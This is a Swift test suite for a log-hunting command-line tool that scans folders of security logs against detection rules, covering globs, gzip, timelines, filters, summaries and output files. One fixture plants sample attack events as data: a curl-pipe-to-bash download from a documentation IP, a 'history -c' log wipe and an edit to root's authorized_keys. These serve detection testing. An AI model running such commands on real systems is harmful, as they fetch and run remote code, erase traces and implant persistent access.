import Foundation
import Testing
import VigilTooling

/// `vigil hunt` on a folder, as Chainsaw, Hayabusa and Zircolite users work: recursion, globs,
/// .gz, bad files skipped and reported, output to a file, a timeline, filters and a summary.
@Suite(.serialized) struct HuntWorkflowTests {
    static let clamscan = APIContractTests.root.appendingPathComponent("../shared/corpus/logs/clamav/clamscan_l.log").standardized

    /// A folder of logs: the corpus ClamAV log, a gzipped copy in a subfolder, an SSH log with
    /// process and file findings of other times and levels, a file of no known format and one to exclude.
    func huntFolder() throws -> TemporaryDirectory {
        let folder = TemporaryDirectory()
        let fileManager = FileManager.default
        try fileManager.createDirectory(at: folder.url.appendingPathComponent("logs/deep"), withIntermediateDirectories: true)
        try fileManager.copyItem(at: Self.clamscan, to: folder.url.appendingPathComponent("logs/clamscan.log"))
        let gzip = Process()
        gzip.executableURL = URL(fileURLWithPath: "/bin/sh")
        gzip.arguments = ["-c", "gzip -c '\(Self.clamscan.path)' > '\(folder.path("logs/deep/clamscan-old.log.gz"))'"]
        try gzip.run()
        gzip.waitUntilExit()
        try folder.write("logs/deep/garbage.bin", "\u{1}\u{2}\u{3} not a log at all")
        try folder.write("logs/skip-me.log", #"{"@timestamp":"2026-01-01T00:00:00Z","hostname":"x","logsource":{"category":"antivirus"},"Signature":"Ignored.Sig"}"#)
        let lines = [
            #"{"@timestamp":"2026-03-03T09:00:00Z","logsource":{"category":"process_creation","product":"linux"},"CommandLine":"curl -fsSL http://203.0.113.9/x | bash","Image":"/usr/bin/bash"}"#,
            #"{"@timestamp":"2025-01-01T00:00:00Z","logsource":{"category":"process_creation","product":"linux"},"CommandLine":"history -c","Image":"/usr/bin/bash"}"#,
            #"{"@timestamp":"2026-03-03T09:05:00Z","logsource":{"category":"file_event","product":"linux"},"TargetFilename":"/root/.ssh/authorized_keys","Image":"/usr/bin/vi"}"#,
        ]
        try folder.write("logs/deep/process.ndjson", lines.joined(separator: "\n"))
        return folder
    }

    func jsonLines(_ text: String) -> [[String: Any]] {
        text.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
    }

    @Test func aFolderIsReadRecursivelyWithGlobsAndGzipAndABadFileIsSkippedNotFatal() async throws {
        let folder = try huntFolder()
        let result = try await vigil(["hunt", "--rules", "builtin", "--exclude", "skip-*", "--output-format", "jsonl", "--hostname", "triage-box", "logs"],
                               in: folder.url)
        #expect(result.status == 1, "a skipped file makes the exit code 1")
        let matches = jsonLines(result.stdout)
        let files = Set(matches.compactMap { $0["file"] as? String })
        #expect(files == ["logs/clamscan.log", "logs/deep/clamscan-old.log.gz", "logs/deep/process.ndjson"], "\(files)")
        #expect(matches.allSatisfy { $0["hostname"] as? String == "triage-box" || $0["file"] as? String != "logs/deep/process.ndjson" })
        // Every file gets a line on stderr; the bad one says why it was skipped.
        #expect(result.stderr.contains("logs/deep/garbage.bin: skipped: cannot tell the format"))
        #expect(result.stderr.contains("logs/clamscan.log: clamav (detected), 9 events, 0 rejected records, 9 matches"))
        #expect(result.stderr.contains("logs/deep/clamscan-old.log.gz: clamav (detected), 9 events"))
        #expect(!result.stderr.contains("skip-me"))
        // MITRE techniques and tags ride along in every format.
        let eicar = try #require(matches.first { ($0["title"] as? String) == "EICAR test file detected" })
        #expect(eicar["mitre_techniques"] as? [String] == ["T1588.001"])
        #expect((eicar["tags"] as? [String])?.contains("attack.t1588.001") == true)
        // Only the named files when globs include.
        let included = try await vigil(["hunt", "--rules", "builtin", "--include", "*.gz", "--output-format", "jsonl", "logs"], in: folder.url)
        #expect(included.status == 0, "\(included.stderr)")
        #expect(Set(jsonLines(included.stdout).compactMap { $0["file"] as? String }) == ["logs/deep/clamscan-old.log.gz"])
    }

    @Test func theTableSurvivesALaterBadFileAndGoesToTheOutputFile() async throws {
        let folder = try huntFolder()
        let result = try await vigil(["hunt", "--rules", "builtin", "--output", "matches.txt", "logs/clamscan.log", "logs/deep/garbage.bin", "missing.log"],
                               in: folder.url)
        #expect(result.status == 1)
        #expect(result.stdout.isEmpty)
        let table = try String(contentsOf: folder.url.appendingPathComponent("matches.txt"), encoding: .utf8)
        #expect(table.hasPrefix("SEVERITY"))
        #expect(table.split(separator: "\n").count == 10, "the header and the 9 matches of the first file")
        #expect(result.stderr.contains("missing.log: skipped:"))
        #expect(result.stderr.contains("9 matches in 3 files (9 events); 2 skipped"))
    }

    /// `--output` and `--report` write through what the path names, as a shell's `>` does: a
    /// symlink keeps pointing at the file it names. Written to a new file renamed over the
    /// path, they replaced the symlink (and, run as root, /dev/null with a regular file).
    @Test func outputAndReportWriteThroughASymlinkInsteadOfReplacingIt() async throws {
        let folder = try huntFolder()
        let fileManager = FileManager.default
        try folder.write("kept-matches.jsonl", "old content that must go\n")
        try fileManager.createSymbolicLink(atPath: folder.path("matches.jsonl"), withDestinationPath: "kept-matches.jsonl")
        try fileManager.createSymbolicLink(atPath: folder.path("report.html"), withDestinationPath: "kept-report.html")
        let result = try await vigil(["hunt", "--rules", "builtin", "--output-format", "jsonl", "--output", "matches.jsonl",
                                      "--report", "report.html", "logs/clamscan.log"], in: folder.url)
        #expect(result.status == 0, "\(result.stderr)")
        for link in ["matches.jsonl", "report.html"] {
            #expect((try? fileManager.destinationOfSymbolicLink(atPath: folder.path(link))) != nil, "\(link) is still a symlink")
        }
        let matches = try String(contentsOfFile: folder.path("kept-matches.jsonl"), encoding: .utf8)
        #expect(jsonLines(matches).count == 9)
        #expect(!matches.contains("old content"), "the file is truncated first")
        #expect(try String(contentsOfFile: folder.path("kept-report.html"), encoding: .utf8).contains("<html"))
        let unwritable = try await vigil(["hunt", "--rules", "builtin", "--output", "no/such/folder/m.jsonl", "logs/clamscan.log"], in: folder.url)
        #expect(unwritable.status != 0)
        #expect(unwritable.stderr.contains("cannot write --output no/such/folder/m.jsonl: No such file or directory"), "\(unwritable.stderr)")
    }

    @Test func theTimelineSortsAcrossFilesAndFiltersNarrowIt() async throws {
        let folder = try huntFolder()
        let arguments = ["hunt", "--rules", "builtin", "--exclude", "*.bin", "--exclude", "skip-*", "--output-format", "jsonl"]
        let timeline = jsonLines(try await vigil(arguments + ["--timeline", "logs"], in: folder.url).stdout)
        let times = timeline.compactMap { $0["time"] as? String }
        #expect(times.count == timeline.count && times.count >= 20)
        #expect(times == times.sorted(), "the timeline is in event time order")
        #expect(timeline.first?["file"] as? String == "logs/deep/process.ndjson", "the 2025 event comes first")

        let high = jsonLines(try await vigil(arguments + ["--min-level", "high", "logs"], in: folder.url).stdout)
        #expect(!high.isEmpty && high.allSatisfy { ["high", "critical"].contains($0["severity"] as? String ?? "") })
        #expect(high.count < timeline.count)

        let tagged = jsonLines(try await vigil(arguments + ["--tag", "ATTACK.T1588.001", "logs"], in: folder.url).stdout)
        #expect(tagged.count == 8 && tagged.allSatisfy { $0["title"] as? String == "EICAR test file detected" }, "\(tagged.count)")
        let byRule = jsonLines(try await vigil(arguments + ["--rule", "piped into a shell", "logs"], in: folder.url).stdout)
        #expect(byRule.count == 1)

        let windowed = jsonLines(try await vigil(arguments + ["--since", "2026-03-01T00:00:00Z", "--until", "2026-03-04T00:00:00Z", "logs"],
                                           in: folder.url).stdout)
        #expect(windowed.map { $0["file"] as? String } == ["logs/deep/process.ndjson", "logs/deep/process.ndjson"])
        let bad = try await vigil(arguments + ["--min-level", "severe", "logs"], in: folder.url)
        #expect(bad.status == 64 && bad.stderr.contains("--min-level 'severe' is unknown"))
    }

    @Test func theSummaryCountsPerRuleLevelHostAndFileWithFirstAndLastTimes() async throws {
        let folder = try huntFolder()
        let result = try await vigil(["hunt", "--rules", "builtin", "--exclude", "*.bin", "--exclude", "skip-*", "--summary", "--output-format", "jsonl", "logs"],
                               in: folder.url)
        #expect(result.status == 0, "\(result.stderr)")
        let rows = jsonLines(result.stdout).filter { $0["group"] != nil }
        let files = rows.filter { $0["group"] as? String == "file" }
        #expect(files.count == 3)
        #expect(files.first { $0["key"] as? String == "logs/clamscan.log" }?["matches"] as? Int == 9)
        let eicar = try #require(rows.first { $0["group"] as? String == "rule" && $0["key"] as? String == "EICAR test file detected" })
        #expect(eicar["matches"] as? Int == 8)
        #expect(eicar["first"] as? String == "2026-11-27T20:23:21.000Z")
        let levels = rows.filter { $0["group"] as? String == "level" }.compactMap { $0["key"] as? String }
        #expect(Set(levels).isSubset(of: ["informational", "low", "medium", "high", "critical"]) && levels.contains("high"))
        let total = rows.filter { $0["group"] as? String == "level" }.compactMap { $0["matches"] as? Int }.reduce(0, +)
        #expect(total == jsonLines(result.stdout).filter { $0["rule_id"] != nil }.count)
    }
    /// `--timeline` sorts on disk in runs when there are many matches: with runs of 7 rows
    /// (`VIGIL_SORT_RUN_ROWS`), 300 matches spill into 43 runs and merge to exactly what one run
    /// in memory gives, in every format, sorted by event time with file order breaking ties.
    @Test func aSpilledTimelineMergesToTheSameOrderInEveryFormat() async throws {
        let folder = TemporaryDirectory()
        // Three files whose times interleave, with ties across files.
        for file in 0..<3 {
            let lines = (0..<100).map { index in
                let second = (index * 7 + file * 3) % 100
                return #"{"@timestamp":"2026-03-03T09:00:\#(String(format: "%02d", second % 60)).\#(second / 60)00Z","hostname":"h\#(file)","logsource":{"category":"antivirus"},"Signature":"Sig-\#(file)-\#(index)"}"#
            }
            try folder.write("f\(file).ndjson", lines.joined(separator: "\n"))
        }
        let files = ["f0.ndjson", "f1.ndjson", "f2.ndjson"]
        for format in ["jsonl", "json", "csv", "table"] {
            let arguments = ["hunt", "--rules", "builtin", "--timeline", "--output-format", format] + files
            let inMemory = try await vigil(arguments, in: folder.url)
            let spilled = try await vigil(arguments, environment: ["VIGIL_SORT_RUN_ROWS": "7"], in: folder.url)
            #expect(inMemory.status == 0 && spilled.status == 0, "\(spilled.stderr)")
            #expect(spilled.stdout == inMemory.stdout, "\(format): the spilled timeline differs")
            #expect(spilled.stdout.split(separator: "\n").count >= 300, "\(format)")
            if format == "jsonl" {
                let times = jsonLines(spilled.stdout).compactMap { $0["time"] as? String }
                #expect(times.count == 300)
                #expect(times == times.sorted())
            }
        }
    }
}

/// `vigil query` from the command line: formats, the row cap, and a refusal's exit code.
@Suite(.serialized) struct QueryCommandTests {
    @Test func queriesPrintInEveryFormatAndRefusalsExitOne() async throws {
        let scratch = TemporaryDirectory()
        #expect(try await vigil(["demo", "--db", "demo.sqlite"], in: scratch.url).status == 0)
        let lines = try await vigil(["query", "--db", "demo.sqlite", "--format", "jsonl", "SELECT hostname, event_count FROM machines ORDER BY hostname"],
                              in: scratch.url)
        #expect(lines.status == 0, "\(lines.stderr)")
        let rows = lines.stdout.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
        #expect(rows.count == 5)
        #expect(rows.first?["hostname"] as? String == "db-01")
        let csv = try await vigil(["query", "--db", "demo.sqlite", "--format", "csv", "SELECT hostname FROM machines ORDER BY hostname"], in: scratch.url)
        #expect(csv.stdout.hasPrefix("hostname\ndb-01\n"))
        let capped = try await vigil(["query", "--db", "demo.sqlite", "--limit", "2", "SELECT id FROM events"], in: scratch.url)
        #expect(capped.status == 0 && capped.stdout.split(separator: "\n").count == 3 && capped.stderr.contains("stopped at 2 rows"))
        let refused = try await vigil(["query", "--db", "demo.sqlite", "SELECT * FROM api_keys"], in: scratch.url)
        #expect(refused.status == 1 && refused.stderr.contains("not allowed"))
    }

}
